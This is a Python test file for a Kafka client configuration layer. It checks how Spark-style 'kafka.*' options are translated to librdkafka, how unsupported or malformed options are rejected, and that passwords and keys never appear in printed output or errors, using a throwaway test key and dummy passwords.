"""``kafka.*`` options, as Spark's users write them: translated, rejected with their name, and never shown when secret."""

from __future__ import annotations

import json
import logging
import os
import pickle
import socket
import subprocess
import sys
import traceback
from collections.abc import Mapping
from pathlib import Path

import pytest
from confluent_kafka import Consumer, KafkaException
from confluent_kafka.admin import AdminClient
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from streamgroups.connections.secret_names import KAFKA_SECRETS
from streamgroups.errors import InvalidOption
from streamgroups_kafka.client import java_settings, setting_values
from streamgroups_kafka.client.config import ClientConfig
from streamgroups_kafka.client.jaas import parse_jaas
from unit_tests.examples import examples

SERVERS = {"bootstrap.servers": "127.0.0.1:1"}
# Made for these tests and used nowhere else.
KEY = """\
-----BEGIN PRIVATE KEY-----
MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg7MehrdMvm2ZAA+9s
XtgsYRepZht0ETlVmkbz2Gf+EUehRANCAARRBTNmlyyhJ/zQd/qwqrMXUt3GcZRt
kT8m1e0nuy8GcsZ7s70vw7kyniETPBVnEyKTcyToTcf5XyaQwod3Af0I
-----END PRIVATE KEY-----
"""
CERTIFICATE = """\
-----BEGIN CERTIFICATE-----
MIIBdDCCARugAwIBAgIUDeu+7vtrsdk2ABFvZ4DOwjbn9FgwCgYIKoZIzj0EAwIw
DzENMAsGA1UEAwwEdGVzdDAgFw0yNjExMjExMDEyNDBaGA8yMTI2MTAyODEwMTI0
MFowDzENMAsGA1UEAwwEdGVzdDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABFEF
M2aXLKEn/NB3+rCqsxdS3cZxlG2RPybV7Se7LwZyxnuzvS/DuTKeIRM8FWcTIpNz
JOhNx/lfJpDCh3cB/QijUzBRMB0GA1UdDgQWBBTVxAUMMGvW+DAeFhatxZ6FYRoH
xjAfBgNVHSMEGDAWgBTVxAUMMGvW+DAeFhatxZ6FYRoHxjAPBgNVHRMBAf8EBTAD
AQH/MAoGCCqGSM49BAMCA0cAMEQCIE2WBrkXy0+ChQWcWDk0kv3c8Gf5/psVU1tI
pfw7pv62AiBRj+ygVRlWpnfPGAQNnJpLRH0xGUZ36Jv5AnF19lVpjg==
-----END CERTIFICATE-----
"""


def _config(**options: str) -> ClientConfig:
    """Options with ``_`` for ``.``, beside the servers."""
    return ClientConfig.from_options({**SERVERS, **{name.replace("_", "."): value for name, value in options.items()}})


def _rejection(options: Mapping[str, str]) -> str:
    with pytest.raises(InvalidOption) as caught:
        ClientConfig.from_options({**SERVERS, **options})
    return str(caught.value)


# Translating


@pytest.mark.parametrize(
    ("java", "value", "from_confluent", "expected"),
    [
        ("request.timeout.ms", "9000", "socket.timeout.ms", "9000"),
        ("fetch.max.wait.ms", "10", "fetch.wait.max.ms", "10"),
        ("max.partition.fetch.bytes", "2048", "fetch.message.max.bytes", "2048"),
        ("receive.buffer.bytes", "-1", "socket.receive.buffer.bytes", "0"),
        ("send.buffer.bytes", "65536", "socket.send.buffer.bytes", "65536"),
        ("connections.max.idle.ms", "-1", "connections.max.idle.ms", "0"),
        ("metadata.max.age.ms", "30000", "topic.metadata.refresh.interval.ms", "30000"),
        ("ssl.endpoint.identification.algorithm", "", "ssl.endpoint.identification.algorithm", "none"),
        ("client.dns.lookup", "default", "client.dns.lookup", "use_all_dns_ips"),
        ("security.protocol", "PLAINTEXT", "security.protocol", "PLAINTEXT"),
        ("reconnect.backoff.ms", " 50 ", "reconnect.backoff.ms", "50"),
        ("retry.backoff.max.ms", "900", "retry.backoff.max.ms", "900"),
        ("client.rack", "eu-1a", "client.rack", "eu-1a"),
        ("isolation.level", "read_committed", "isolation.level", "read_committed"),
        ("sasl.kerberos.service.name", "kafka", "sasl.kerberos.service.name", "kafka"),
        ("check.crcs", "true", "check.crcs", "true"),
        ("Request.Timeout.Ms", "9000", "socket.timeout.ms", "9000"),
    ],
)
def test_java_names_become_librdkafkas(java: str, value: str, from_confluent: str, expected: str) -> None:
    assert ClientConfig.from_options({**SERVERS, java: value}).get(from_confluent) == expected


_OF_ALL = sorted(java_settings.COMMON | java_settings.FETCHING | java_settings.MEMBERSHIP)


def _librdkafkas_error(name: str) -> str:
    """The error for a value that no property takes: of its value, or none; of an unknown name, of the name."""
    try:
        Consumer({"group.id": "g", name: "x"}, logger=_silent()).close()
    except KafkaException as e:
        return str(e.args[0].str())
    return ""


@pytest.mark.parametrize("name", _OF_ALL)
def test_librdkafka_has_every_name_in_the_tables(name: str) -> None:
    assert "No such configuration property" not in _librdkafkas_error(name)


@pytest.mark.parametrize("other", ["Isolation.LEVEL", " isolation.level", "isolation.level "])
@pytest.mark.parametrize("value", ["read_committed", "read_uncommitted"])
def test_a_setting_is_given_once_in_any_case(other: str, value: str) -> None:
    text = _rejection({"isolation.level": "read_committed", other: value})
    assert text == f"Options 'kafka.isolation.level' and 'kafka.{other}' are the same option. Set only one of them."


@pytest.mark.parametrize("name", _OF_ALL)
def test_librdkafka_reads_a_number_or_a_flag_where_the_tables_have_one(name: str) -> None:
    result = _librdkafkas_error(name)
    assert (name in setting_values.NUMBERS) == (f'Invalid value for configuration property "{name}"' in result)
    assert (name in setting_values.FLAGS) == (f'Expected bool value for "{name}"' in result)


def test_the_tables_of_values_have_no_other_names() -> None:
    assert set(_OF_ALL) >= setting_values.NUMBERS | setting_values.FLAGS


#: librdkafka reads a part of each of them, or the last 32 bits.
_NO_NUMBERS = [
    *("45s", "300_000", "5 minutes", "10MB", "4.5e4", "0x493e0", "- 1", "++1", "45000.0"),
    *("\u0663\u0660\u0660\u0660\u0660\u0660", "9" * 5_000, "soon", ""),
]


@pytest.mark.parametrize("value", _NO_NUMBERS, ids=lambda value: value[:10])
@pytest.mark.parametrize("option", sorted({*setting_values.NUMBERS, "request.timeout.ms", "metadata.max.age.ms"}))
def test_a_number_has_no_unit_and_no_other_base(option: str, value: str) -> None:
    text = _rejection({option: value})
    assert f"Option 'kafka.{option}' is not a whole number. Write digits without a unit" in text


@pytest.mark.parametrize("value", ["2147483648", "4294967301", "-2147483648", "9223372036854775807"])
def test_a_number_that_librdkafka_would_cut_is_rejected(value: str) -> None:
    text = _rejection({"metadata.max.age.ms": value})
    assert "is a number of more than 32 bits. librdkafka reads numbers up to 2147483647." in text


@pytest.mark.parametrize("value", ["0", "-1", "-2", "-00"])
@pytest.mark.parametrize("option", ["metadata.max.age.ms", "topic.metadata.refresh.interval.ms"])
def test_S11_the_refresh_of_metadata_cannot_be_disabled(option: str, value: str) -> None:
    """A query of ``assign`` would compare topic ids only at its start."""
    assert f"Option 'kafka.{option}' is less than 1" in _rejection({option: value})


@pytest.mark.parametrize(("value", "read"), [("011", "11"), ("+45000", "45000"), ("-01", "-1"), ("000", "0")])
def test_a_number_is_decimal_as_for_java(value: str, read: str) -> None:
    translation = java_settings.Translation()
    translation.put("retry.backoff.ms", value, "retry.backoff.ms")
    assert translation.properties == {"retry.backoff.ms": read}


@pytest.mark.parametrize("value", ["yes", "on", "", "truex", "2"])
@pytest.mark.parametrize("option", sorted(setting_values.FLAGS))
def test_a_flag_is_true_or_false(option: str, value: str) -> None:
    assert f"Option 'kafka.{option}' is neither true nor false" in _rejection({option: value})


@pytest.mark.parametrize(
    ("value", "read"), [("true", "true"), ("TRUE", "true"), (" False ", "false"), ("1", "true"), ("f", "false")]
)
def test_a_flag_has_any_case_and_the_spellings_of_librdkafka(value: str, read: str) -> None:
    assert ClientConfig.from_options({**SERVERS, "check.crcs": value}).get("check.crcs") == read


@pytest.mark.parametrize("name", sorted(java_settings.RENAMED.values()))
def test_settings_are_renamed_to_names_of_the_tables(name: str) -> None:
    assert name in java_settings.COMMON | java_settings.FETCHING | java_settings.MEMBERSHIP


def test_librdkafkas_own_names_are_taken() -> None:
    assert _config(socket_timeout_ms="9000").get("socket.timeout.ms") == "9000"


def test_one_setting_by_two_names_must_agree() -> None:
    assert _config(request_timeout_ms="9000", socket_timeout_ms="9000").get("socket.timeout.ms") == "9000"
    text = _rejection({"request.timeout.ms": "9000", "socket.timeout.ms": "8000"})
    assert "'kafka.request.timeout.ms'" in text
    assert "'kafka.socket.timeout.ms'" in text


def test_harmless_java_settings_are_ignored_and_listed() -> None:
    config = _config(max_poll_records="100", metrics_num_samples="3", sasl_login_refresh_window_factor="0.9")
    assert config.ignored == ("max.poll.records", "metrics.num.samples", "sasl.login.refresh.window.factor")
    assert not {"max.poll.records", "metrics.num.samples"} & config.for_reader("g").keys()


def test_the_group_is_handed_on() -> None:
    assert _config(group_id="orders").group_id == "orders"
    assert _config().group_id is None


# Rejections


@pytest.mark.parametrize(
    ("option", "value", "remedy"),
    [
        ("auto.offset.reset", "earliest", "startingOffsets"),
        ("key.deserializer", "a.B", "DataFrame functions"),
        ("value.deserializer", "a.B", "DataFrame functions"),
        ("key.serializer", "a.B", "DataFrame functions"),
        ("value.serializer", "a.B", "DataFrame functions"),
        ("enable.auto.commit", "false", "micro-batch"),
        ("interceptor.classes", "a.B", "StreamingQueryListener"),
        ("enable.auto.offset.store", "true", "micro-batch"),
        ("enable.partition.eof", "false", "Leave it out"),
        ("partition.assignment.strategy", "range", "cooperative-sticky"),
        ("allow.auto.create.topics", "true", "create the topic"),
        ("sasl.client.callback.handler.class", "a.B", "cannot run Java classes"),
        ("sasl.login.callback.handler.class", "a.B", "cannot run Java classes"),
        ("ssl.provider", "BC", "OpenSSL"),
        ("ssl.engine.factory.class", "a.B", "OpenSSL"),
        ("ssl.enabled.protocols", "TLSv1.3", "restrict the broker"),
        ("ssl.truststore.location", "/trust.jks", "each executor"),
        ("ssl.keystore.location", "/client.jks", "each executor"),
        ("group.protocol", "new", "'classic' or 'consumer'"),
        ("security.protocol", "TLS", "librdkafka rejects"),
        ("request.timeout.ms", "600000", "10..300000"),
        ("request.timeout.ms", "soon", "digits without a unit"),
        ("ssl.truststore.certificates", "MIIB", "PEM block"),
    ],
)
def test_errors_name_the_option_as_it_was_given_and_a_remedy(option: str, value: str, remedy: str) -> None:
    text = _rejection({option: value})
    assert f"'kafka.{option}" in text
    assert remedy in text


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("partition.assignment.strategy", "cooperative-sticky"),
        ("partition.assignment.strategy", "org.apache.kafka.clients.consumer.CooperativeStickyAssignor"),
        ("allow.auto.create.topics", "false"),
        ("ssl.enabled.protocols", "TLSv1.2, TLSv1.3"),
    ],
)
def test_settings_that_repeat_a_fixed_behaviour_are_accepted(option: str, value: str) -> None:
    assert ClientConfig.from_options({**SERVERS, option: value}).properties == (("bootstrap.servers", "127.0.0.1:1"),)


def test_an_unknown_option_is_rejected_with_the_closest_name() -> None:
    text = _rejection({"sasl.mechanizm": "PLAIN"})
    assert "'kafka.sasl.mechanizm' is unknown. Did you mean 'kafka.sasl.mechanism'?" in text


@pytest.mark.parametrize(
    "servers", ["", " , ", "broker", "broker:", ":9092", "broker:0", "broker:65536", "a:1;b:2", "[::1]"]
)
def test_malformed_servers_are_rejected(servers: str) -> None:
    assert "kafka.bootstrap.servers" in _rejection({"bootstrap.servers": servers})


def test_missing_servers_are_rejected() -> None:
    with pytest.raises(InvalidOption, match="is missing"):
        ClientConfig.from_options({})


def test_servers_are_taken_as_java_takes_them() -> None:
    given = "SASL_SSL://a.example:9093, b_1:9092,, [::1]:9092"
    assert ClientConfig.from_options({"bootstrap.servers": given}).get("bootstrap.servers") == (
        "a.example:9093,b_1:9092,[::1]:9092"
    )


@pytest.mark.parametrize("option", ["session.timeout.ms", "heartbeat.interval.ms"])
def test_the_consumer_protocol_rejects_settings_of_the_broker(option: str) -> None:
    text = _rejection({"group.protocol": "consumer", option: "6000"})
    assert f"'kafka.{option}'" in text
    assert f"consumer.{option}" in text


@pytest.mark.parametrize("odd", ["\0", "\ud800"])
def test_a_value_that_is_no_text_is_rejected_without_showing_it(odd: str) -> None:
    text = _rejection({"sasl.password": f"hunter2{odd}!"})
    assert "NUL" in text
    assert "hunter2" not in text


def test_a_client_id_may_be_long_and_foreign() -> None:
    assert _config(client_id="\u00fc" * 200).get("client.id") == "\u00fc" * 200


def test_settings_that_contradict_each_other_are_rejected_at_once() -> None:
    assert "max.poll.interval.ms" in _rejection({"max.poll.interval.ms": "1000", "session.timeout.ms": "6000"})


# Logins and certificates


PLAIN = 'org.apache.kafka.common.security.plain.PlainLoginModule required username="ann" password="hunter2!";'
SCRAM = "org.apache.kafka.common.security.scram.ScramLoginModule required username='ann' password='hunter2!' ;"
OAUTH = (
    "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required clientId=app clientSecret=hunter2!"
)
OIDC = {
    "security.protocol": "SASL_PLAINTEXT",
    "sasl.mechanism": "OAUTHBEARER",
    "sasl.oauthbearer.token.endpoint.url": "http://127.0.0.1:1/token",
    "sasl.login.callback.handler.class": (
        "org.apache.kafka.common.security.oauthbearer.secured.OAuthBearerLoginCallbackHandler"
    ),
}


@pytest.mark.parametrize(("jaas", "mechanism"), [(PLAIN, "PLAIN"), (SCRAM, "SCRAM-SHA-256"), (SCRAM, "SCRAM-SHA-512")])
def test_jaas_passwords_become_sasl_passwords(jaas: str, mechanism: str) -> None:
    config = _config(security_protocol="SASL_SSL", sasl_mechanism=mechanism, sasl_jaas_config=jaas)
    assert (config.get("sasl.username"), config.get("sasl.password")) == ("ann", "hunter2!")
    assert config.get("sasl.jaas.config") is None


def test_jaas_oauth_becomes_oidc_without_a_request_to_the_token_endpoint(capfd: pytest.CaptureFixture[str]) -> None:
    config = ClientConfig.from_options({**SERVERS, **OIDC, "sasl.jaas.config": f'{OAUTH} scope="a b" extension_x=1;'})
    assert {name: value for name, value in config.properties if name.startswith("sasl.oauthbearer")} == {
        "sasl.oauthbearer.client.id": "app",
        "sasl.oauthbearer.client.secret": "hunter2!",
        "sasl.oauthbearer.extensions": "x=1",
        "sasl.oauthbearer.method": "oidc",
        "sasl.oauthbearer.scope": "a b",
        "sasl.oauthbearer.token.endpoint.url": "http://127.0.0.1:1/token",
    }
    assert capfd.readouterr().err == ""


@pytest.mark.parametrize(
    "jaas",
    [
        "",
        "hunter2!",
        "a.PlainLoginModule required username=ann password=hunter2!",
        'a.PlainLoginModule required username=ann password="hunter2!;',
        "a.PlainLoginModule sometimes username=ann password=hunter2!;",
        "a.PlainLoginModule required password=hunter2!;",
        "a.PlainLoginModule required username=ann password=hunter2! debug=true;",
        "a.PlainLoginModule required username=ann password=hunter2!; b.PlainLoginModule required;",
        "a.ScramLoginModule required username=ann password=hunter2!;",
        "a.OAuthBearerLoginModule required unsecuredLoginStringClaim_sub=hunter2!;",
        "com.sun.security.auth.module.Krb5LoginModule required keyTab=hunter2!;",
    ],
)
def test_jaas_that_cannot_be_used_is_rejected_without_showing_it(jaas: str) -> None:
    text = _rejection({"sasl.mechanism": "PLAIN", "sasl.jaas.config": jaas})
    assert "'kafka.sasl." in text
    assert "hunter2" not in text


def test_quotes_and_escapes_in_jaas() -> None:
    login = parse_jaas(r"""a.B required /* c */ one="x;=y" two='a"b' three="\"\\\101\n" four=";"; // end""")
    assert login.options == {"one": "x;=y", "two": 'a"b', "three": '"\\A\n', "four": ";"}


def test_oauth_without_a_way_to_a_token_is_rejected() -> None:
    assert "requires a token endpoint" in _rejection({"sasl.mechanism": "OAUTHBEARER"})
    assert "'kafka.sasl.oauthbearer.client.secret'" in _rejection({**OIDC, "sasl.oauthbearer.client.id": "app"})
    file_url = {"sasl.mechanism": "OAUTHBEARER", "sasl.oauthbearer.token.endpoint.url": "file:///token"}
    assert "a token file is not supported" in _rejection(file_url)
    _config(sasl_mechanism="OAUTHBEARER", enable_sasl_oauthbearer_unsecure_jwt="true")


def test_a_mechanism_of_aws_is_rejected_before_its_java_classes() -> None:
    jaas = "software.amazon.msk.auth.iam.IAMLoginModule required;"
    handler = "software.amazon.msk.auth.iam.IAMClientCallbackHandler"
    options = {"sasl.client.callback.handler.class": handler, "sasl.jaas.config": jaas}
    text = _rejection({"security.protocol": "SASL_SSL", **options, "sasl.mechanism": "AWS_MSK_IAM"})
    assert "AWS_MSK_IAM" in text
    assert "'kafka.sasl.oauthbearer.token.provider'" in text
    assert "SCRAM-SHA-512 or mTLS" in text
    autowired = {**OIDC, "sasl.oauthbearer.metadata.authentication.type": "aws_iam"}
    assert "'kafka.sasl.oauthbearer.token.provider'" in _rejection(autowired)


PROVIDER = {
    "security.protocol": "SASL_SSL",
    "sasl.mechanism": "OAUTHBEARER",
    "sasl.oauthbearer.token.provider": "board.tokens:token",
}


@pytest.mark.parametrize(
    ("other", "text"),
    [
        ({"sasl.oauthbearer.token.provider": "eyJhbGciOi"}, "Set it to package.module:function"),
        ({"sasl.oauthbearer.token.provider": "board/tokens.py:token"}, "Set it to package.module:function"),
        ({"sasl.oauthbearer.token.provider": "__main__:token"}, "it cannot be __main__"),
        ({"sasl.mechanism": "PLAIN"}, "Set 'kafka.sasl.mechanism' to OAUTHBEARER"),
        ({"security.protocol": "SSL"}, "Set 'kafka.security.protocol' to SASL_SSL"),
        ({"sasl.oauthbearer.scope": "kafka"}, "and 'kafka.sasl.oauthbearer.scope' cannot be combined"),
        ({"sasl.oauthbearer.method": "oidc"}, "and 'kafka.sasl.oauthbearer.method' cannot be combined"),
    ],
)
def test_a_token_provider_that_cannot_be_used_is_rejected(other: dict[str, str], text: str) -> None:
    rejection = _rejection({**PROVIDER, **other})
    assert "'kafka.sasl.oauthbearer.token.provider'" in rejection
    assert text in rejection
    assert "eyJ" not in rejection


def test_a_token_provider_is_imported_only_for_a_client() -> None:
    config = ClientConfig.from_options({**SERVERS, **PROVIDER})
    assert b"board.tokens:token" in pickle.dumps(config)
    for settings_of in (config.for_admin, lambda: config.for_reader("g"), lambda: config.for_member("g")):
        with pytest.raises(InvalidOption, match=r"the module 'board\.tokens' cannot be imported.*all executors"):
            settings_of()


def test_kerberos_without_a_library_for_it_is_reported() -> None:
    for mechanism in ({}, {"sasl.mechanism": "GSSAPI"}):
        text = _rejection({"security.protocol": "SASL_SSL", **mechanism})
        assert "'kafka.sasl.mechanism' (GSSAPI" in text
        assert "confluent-kafka built from source with libsasl2" in text


def test_pem_stores_are_read_by_openssl(tmp_path: Path) -> None:
    (tmp_path / "both.pem").write_text(KEY + CERTIFICATE)
    path = str(tmp_path / "both.pem")
    config = ClientConfig.from_options(
        {
            **SERVERS,
            "security.protocol": "SSL",
            "ssl.truststore.type": "PEM",
            "ssl.truststore.location": path,
            "ssl.truststore.password": "changeit",
            "ssl.keystore.type": "PEM",
            "ssl.keystore.location": path,
        }
    )
    assert (
        config.get("ssl.ca.location")
        == config.get("ssl.key.location")
        == config.get("ssl.certificate.location")
        == path
    )
    assert config.ignored == ("ssl.truststore.password",)


def test_pem_with_a_comment_is_read_in_any_locale() -> None:
    """Stores of certificates contain the names of authorities in their own languages."""
    comment = "# F\u0151tan\u00fas\u00edtv\u00e1ny\n"
    tls = {"security.protocol": "SSL", "ssl.ca.pem": comment + CERTIFICATE}
    tls |= {"ssl.certificate.pem": comment + CERTIFICATE, "ssl.key.pem": comment + KEY}
    load = (
        "import codecs, json, locale, sys\n"
        "from streamgroups_kafka.client.config import ClientConfig\n"
        "from streamgroups_kafka.client.tls import tls_context\n"
        "context = tls_context(ClientConfig.from_options(json.loads(sys.argv[1])))\n"
        "print(context.cert_store_stats()['x509'], codecs.lookup(locale.getpreferredencoding(False)).name)"
    )
    locale = {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", "PYTHONPATH": os.pathsep.join(sys.path)}
    command = [sys.executable, "-c", load, json.dumps({**SERVERS, **tls})]
    ran = subprocess.run(command, env={**os.environ, **locale}, capture_output=True, text=True, timeout=60, check=False)
    assert ran.stdout.split() == ["1", "ascii"], ran.stderr


@pytest.mark.parametrize("newline", ["\n", " ", "\\n"])
def test_pem_in_options_is_taken_however_its_lines_end(newline: str) -> None:
    config = ClientConfig.from_options(
        {
            **SERVERS,
            "security.protocol": "SSL",
            "ssl.truststore.certificates": CERTIFICATE.replace("\n", newline),
            "ssl.keystore.key": KEY.replace("\n", newline),
            "ssl.keystore.certificate.chain": CERTIFICATE.replace("\n", newline),
        }
    )
    assert (config.get("ssl.key.pem"), config.get("ssl.ca.pem")) == (KEY, CERTIFICATE)


def test_a_certificate_that_cannot_be_read_is_rejected_at_once() -> None:
    options = {"security.protocol": "SSL", "ssl.truststore.type": "PEM", "ssl.truststore.location": "/does/not/exist"}
    assert "'kafka.ssl.truststore.location' failed" in _rejection(options)


# What each client gets


def test_a_member_never_fetches_nor_commits_by_itself() -> None:
    member = _config(session_timeout_ms="9000", fetch_min_bytes="5", isolation_level="read_uncommitted").for_member("g")
    assert member == {
        "heartbeat.interval.ms": "250",
        "api.version.request.timeout.ms": "5000",
        "allow.auto.create.topics": "false",
        "auto.offset.reset": "error",
        "bootstrap.servers": "127.0.0.1:1",
        "coordinator.query.interval.ms": "5000",
        "enable.auto.commit": "false",
        "enable.auto.offset.store": "false",
        "fetch.message.max.bytes": "1024",
        "group.id": "g",
        "group.protocol": "classic",
        "isolation.level": "read_committed",
        "log.connection.close": "false",
        "log_level": "4",
        "partition.assignment.strategy": "cooperative-sticky",
        "queued.max.messages.kbytes": "1",
        "queued.min.messages": "1",
        "reconnect.backoff.max.ms": "1000",
        "reconnect.backoff.ms": "50",
        "session.timeout.ms": "9000",
        "socket.nagle.disable": "true",
        "socket.timeout.ms": "5000",
        "topic.metadata.refresh.interval.ms": "5000",
    }


def test_the_user_sets_how_often_a_member_searches_for_its_coordinator() -> None:
    config = _config(coordinator_query_interval_ms="60000")
    for client in (config.for_member("g"), config.for_offsets("g")):
        assert client["coordinator.query.interval.ms"] == "60000"


@pytest.mark.parametrize(
    ("session_ms", "request_ms", "expected"),
    [
        (None, None, "15000"),
        ("10000", None, "5000"),
        ("30000", None, "10000"),
        ("300000", None, "15000"),
        ("30000", "120000", "10000"),
        ("30000", "3000", "3000"),
    ],
)
def test_a_request_to_a_coordinator_ends_long_before_the_session(
    session_ms: str | None, request_ms: str | None, expected: str
) -> None:
    """While a client of librdkafka searches for the coordinator, it sends no heartbeat."""
    options = {"session_timeout_ms": session_ms, "request_timeout_ms": request_ms}
    config = _config(**{name: value for name, value in options.items() if value is not None})
    for client in (config.for_member("g"), config.for_offsets("g")):
        assert client["socket.timeout.ms"] == expected
        Consumer(client).close()


def test_the_user_sets_how_soon_a_reader_finds_a_new_leader() -> None:
    reader = _config(request_timeout_ms="90000", metadata_max_age_ms="60000").for_reader("g")
    assert (reader["socket.timeout.ms"], reader["topic.metadata.refresh.interval.ms"]) == ("90000", "60000")


def test_a_member_of_the_new_protocol() -> None:
    config = _config(group_protocol="CONSUMER", group_remote_assignor="uniform")
    member = config.for_member("g", client_id="query-1")
    assert config.group_protocol == member["group.protocol"] == "consumer"
    assert member["client.id"] == "query-1"
    assert member["group.remote.assignor"] == "uniform"
    assert "partition.assignment.strategy" not in member
    Consumer(member).close()


def test_a_reader_sees_gaps_and_ends() -> None:
    reader = _config(session_timeout_ms="9000", group_instance_id="i", fetch_min_bytes="5").for_reader(
        "g", client_id="c"
    )
    assert reader == {
        "allow.auto.create.topics": "false",
        "auto.offset.reset": "error",
        "bootstrap.servers": "127.0.0.1:1",
        "check.crcs": "true",
        "client.id": "c",
        "enable.auto.commit": "false",
        "enable.auto.offset.store": "false",
        "enable.partition.eof": "true",
        "fetch.min.bytes": "5",
        "group.id": "g",
        "isolation.level": "read_uncommitted",
        "log.connection.close": "false",
        "log_level": "0",
        "reconnect.backoff.max.ms": "1000",
        "reconnect.backoff.ms": "50",
        "socket.nagle.disable": "true",
        "socket.timeout.ms": "30000",
        "topic.metadata.refresh.interval.ms": "5000",
    }


def test_users_may_change_what_a_reader_does_by_default() -> None:
    options = {"isolation.level": "READ_COMMITTED", "check.crcs": "false", "log_level": "7"}
    config = ClientConfig.from_options({**SERVERS, **options})
    reader = config.for_reader("g")
    assert config.isolation_level == reader["isolation.level"] == "read_committed"
    assert (reader["check.crcs"], reader["log_level"]) == ("false", "7")


@pytest.mark.parametrize(("name", "value"), [("reconnect.backoff.ms", "5000"), ("reconnect.backoff.max.ms", "200")])
def test_a_reconnect_interval_of_the_user_wins(name: str, value: str) -> None:
    reader = ClientConfig.from_options({**SERVERS, name: value}).for_reader("g")
    assert {n: v for n, v in reader.items() if n.startswith("reconnect")} == {name: value}
    AdminClient({**reader, "group.id": "g"}, logger=_silent())


def test_an_admin_client_gets_nothing_it_would_warn_about() -> None:
    config = _config(session_timeout_ms="9000", fetch_min_bytes="5", isolation_level="read_committed", client_rack="a")
    assert config.for_admin().keys() - {"reconnect.backoff.ms", "reconnect.backoff.max.ms", "socket.nagle.disable"} == {
        "bootstrap.servers",
        "client.rack",
        "log_level",
        "log.connection.close",
    }
    records: list[str] = []
    logger = _silent()
    logger.setLevel(logging.DEBUG)
    logger.addFilter(lambda record: bool(records.append(record.getMessage())))
    AdminClient(config.for_admin(), logger=logger).poll(0.2)
    assert not [record for record in records if "CONFWARN" in record]


def test_it_travels() -> None:
    config = _config(sasl_password="hunter2!", max_poll_records="1")
    assert pickle.loads(pickle.dumps(config)) == config
    assert hash(config) == hash(pickle.loads(pickle.dumps(config)))


def test_checking_uses_no_network() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        here = f"127.0.0.1:{server.getsockname()[1]}"
        oidc = {**OIDC, "sasl.oauthbearer.token.endpoint.url": f"http://{here}/token"}
        jaas = {"sasl.jaas.config": f"{OAUTH};"}
        for _ in range(20):
            ClientConfig.from_options({"bootstrap.servers": here})
        ClientConfig.from_options({"bootstrap.servers": here, "group.protocol": "consumer"})
        ClientConfig.from_options({"bootstrap.servers": here, **oidc, **jaas})
        server.settimeout(0.3)
        with pytest.raises(TimeoutError):
            server.accept()


# Secrets


KAFKAS_PASSWORD_TYPES = {
    "sasl.jaas.config",
    "sasl.oauthbearer.assertion.private.key.passphrase",
    "sasl.oauthbearer.client.credentials.client.secret",
    "ssl.key.password",
    "ssl.keystore.certificate.chain",
    "ssl.keystore.key",
    "ssl.keystore.password",
    "ssl.truststore.certificates",
    "ssl.truststore.password",
}
# No asterisk: the mask itself is no leak. No quote: they are escaped in a JAAS string, and that is another test.
_secret = st.text(
    st.characters(codec="utf-8", exclude_characters="*\0\"\\'", exclude_categories=("Cs", "Cc")), min_size=4
).filter(lambda text: len(text.strip()) >= 4 and text == text.strip())
_malformed = st.sampled_from(
    [
        {"bootstrap.servers": "nowhere"},
        {"request.timeout.ms": "soon"},
        {"security.protocol": "TLS"},
        {"sesion.timeout.ms": "6000"},
        {"auto.offset.reset": "latest"},
        {"isolation.level": "none"},
        {"group.protocol": "new"},
        {"group.protocol": "consumer", "session.timeout.ms": "1"},
        {"ssl.truststore.location": "/trust.jks"},
        {"ssl.provider": "BC"},
        {"sasl.mechanism": "SCRAM-SHA-256"},
        {"sasl.mechanism": "OAUTHBEARER"},
        {"ssl.key.pem": "no pem", "security.protocol": "SSL"},
        {"socket.timeout.ms": "1000", "request.timeout.ms": "2000"},
    ]
)


def test_the_nine_passwords_of_kafka_are_secret() -> None:
    assert KAFKAS_PASSWORD_TYPES <= KAFKA_SECRETS


@pytest.mark.parametrize("name", sorted(KAFKA_SECRETS))
def test_secrets_are_not_printed(name: str) -> None:
    config = ClientConfig((("bootstrap.servers", "b:1"), (name, "hunter2!")))
    assert repr(config) == str(config) == f"ClientConfig(bootstrap.servers='b:1', {name}='***')"
    assert config.redact("it was hunter2!") == "it was ***"


@settings(max_examples=examples(150), deadline=None)
@given(secret=_secret, name=st.sampled_from(["sasl.password", "ssl.key.password", "ssl.keystore.password"]))
def test_no_secret_in_what_is_printed(secret: str, name: str) -> None:
    # Also when another, harmless option happens to hold it.
    config = ClientConfig.from_options({**SERVERS, name: secret, "client.id": f"query {secret}"})
    for shown in (repr(config), str(config), f"{config}", config.redact(f"rejected: {secret}, {secret!r}")):
        assert secret not in shown


@settings(max_examples=examples(300), deadline=None)
@given(password=_secret, other=_secret, malformed=_malformed)
def test_no_secret_in_the_error_of_another_option(password: str, other: str, malformed: dict[str, str]) -> None:
    options = {
        **SERVERS,
        "security.protocol": "SASL_SSL",
        "sasl.mechanism": "PLAIN",
        "sasl.jaas.config": f'a.PlainLoginModule required username="ann" password="{password}";',
        "ssl.truststore.password": other,
        "client.id": other,
    }
    with pytest.raises(InvalidOption) as caught:
        ClientConfig.from_options({**options, **malformed})
    shown = "".join(traceback.format_exception_only(caught.value)).removeprefix("streamgroups.errors.InvalidOption: ")
    assert caught.value.__context__ is None
    for secret in (password, other):
        assert secret not in shown


@settings(max_examples=examples(150), deadline=None)
@given(secret=_secret, misspelt=st.sampled_from(["sasl.pasword", "sasl.jaas.conf", "ssl.keystore.pwd", "password"]))
def test_no_secret_in_the_error_of_its_own_misspelt_option(secret: str, misspelt: str) -> None:
    assume(secret not in misspelt)
    assert secret not in _rejection({misspelt: secret})


@settings(max_examples=examples(150), deadline=None)
@given(
    secret=_secret, template=st.sampled_from(["{}", "a.B required password={};", '{} required password="', "x {} y;"])
)
def test_no_secret_in_the_error_of_broken_jaas(secret: str, template: str) -> None:
    assert secret not in _rejection({"sasl.jaas.config": template.format(secret)})


@pytest.mark.parametrize(
    "jaas",
    [
        f"{PLAIN.rstrip(';')}",
        'org.apache.kafka.common.security.plain.PlainLoginModule required username="ann" password="hunter2"',
        'LoginModule required clientId="ann" clientSecret="hunter2"',
    ],
)
def test_the_remedy_for_broken_jaas_is_whole(jaas: str) -> None:
    text = _rejection({"sasl.jaas.config": jaas})
    assert "may contain a password). Use one module: " in text
    assert text.endswith('<class>LoginModule required username="..." password="...";')
    assert "hunter2" not in text


@pytest.mark.parametrize("password", ["kafka", "session", "timeout", "librdkafka", "sesion"])
